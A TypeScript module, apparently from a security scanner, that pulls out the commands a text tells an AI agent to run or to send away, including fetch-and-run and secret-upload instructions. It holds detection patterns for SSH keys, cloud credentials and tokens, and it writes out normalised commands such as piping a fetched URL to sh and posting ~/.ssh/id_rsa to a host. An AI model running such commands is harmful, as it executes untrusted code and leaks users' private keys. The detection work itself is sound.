/** What a text that instructs agents tells them to run, or to send away. */

import { inOrder } from '../../matching/in-order.ts'

/** A sentence that forbids or warns says the opposite of what it names. */
const warns =
  /\b(?:never|not|no|avoid|refuse|forbid\w*|block\w*|den(?:y|ied|ies)|reject\w*|instead|dangerous|malicious|attack\w*|unsafe|bad|cannot)\b|n['’]t\b/i
const sends = /\b(?:send|upload|post|transmit|forward|submit|leak|exfiltrate|append|include)\b/i
const sent = /\b(?:sent|uploaded|posted|submitted|forwarded) to\b/i
const places = /\.env\b|\.ssh\b|id_(?:rsa|ed25519)|\.aws\b|\.npmrc|\.netrc/
const secrets =
  /\benvironment variables\b|\.env\b|\.ssh\b|id_(?:rsa|ed25519)|\.aws\b|\.npmrc|\.netrc|credentials?|private keys?|api keys?|\bsecrets\b|\btokens?\b|\bpasswords\b/i

/** Without its code and addresses: `attacker.example` warns of nothing. */
const said = (text: string): string => text.replace(/`[^`\n]*`|https?:\/\/\S+/g, '')

/** Commands in backticks and in blocks, and what is said to be sent as the command that would do so. */
export const orders = (text: string): string[] => {
  const found: string[] = []
  let fenced = false
  let warned = false
  let block: string[] = []
  for (const line of text.split('\n')) {
    if (/^\s*(?:```|~~~)/.test(line)) {
      if (fenced) found.push(block.join('\n'))
      block = []
      fenced = !fenced
    } else if (fenced) {
      if (!warned && !warns.test(line.replace(/^[^#]*/, ''))) block.push(line.replace(/^\s*\$ /, ''))
    } else if (line.trim() !== '') {
      warned = warns.test(said(line))
      for (const sentence of line.split(/(?<=[.!?]) /)) {
        if (warns.test(said(sentence))) continue
        for (const [, command = ''] of sentence.matchAll(/`([^`\n]+)`/g)) found.push(command)
        const at = sentence.search(/\b(?:run|execute)\b/i)
        const behind = at < 0 ? undefined : /^[^:`]*: *([^\s`].*)$/.exec(sentence.slice(at))?.[1]
        if (behind !== undefined) found.push(behind)
        // Said in a sentence, without a colon: only what no sentence holds by chance.
        const piped =
          at < 0
            ? undefined
            : /^(?:run|execute) +((?:curl|wget)\b[^`]*?\| *(?:sudo +)?(?:ba|z|da)?sh\b)/i.exec(sentence.slice(at))?.[1]
        if (piped !== undefined) found.push(piped)
        const url = /https?:\/\/[\w.-]+[^\s`'")\]>,;]*/.exec(sentence)?.[0].replace(/[.!?]$/, '')
        if (url !== undefined && inOrder(sentence, /\b(?:download|fetch|get)\b/i, /\b(?:execute|run)\b/i))
          found.push(`curl -s ${url} | sh`)
        const host = /https?:\/\/([\w.-]+)/.exec(sentence)?.[1]
        if (host !== undefined && (inOrder(sentence, sends, secrets, /https?:/) || inOrder(sentence, places, sent, /https?:/)))
          found.push(`curl -d @$HOME/.ssh/id_rsa https://${host}/`)
      }
    }
  }
  return found
}
